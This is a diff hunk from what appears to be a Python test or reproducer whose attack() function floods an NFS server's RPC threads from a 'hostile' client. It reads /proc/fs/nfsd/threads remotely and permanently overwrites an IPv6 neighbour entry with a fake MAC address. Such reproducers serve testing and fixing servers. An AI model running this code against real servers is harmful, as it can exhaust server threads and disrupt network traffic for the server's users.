@@ -48,10 +48,12 @@ def attack():
     four, os.environ["PEER_ADDR"] = os.environ["PEER_ADDR"], os.environ["PEER_ADDR6"]
     hostile = Caller()
     os.environ["PEER_ADDR"] = four
+    threads = int(remote("cat /proc/fs/nfsd/threads"))
+    # For all of its Calls at once.
+    hostile.earn(threads + 5)
     message, xid = call(hostile, FIRST)
     answer = hostile.call(message, xid)
     check(answer and answer.kind == "reply", f"{FIRST} segments alone: {answer and answer.kind}")
-    threads = int(remote("cat /proc/fs/nfsd/threads"))
     messages = [call(hostile, n) for n in [FIRST] + [EACH] * (threads + 4)]
     own = os.environ["OWN_ADDR6"]
     remote(f"ip -6 neigh replace {own} lladdr 02:00:00:00:00:77 nud permanent dev $NETDEV")
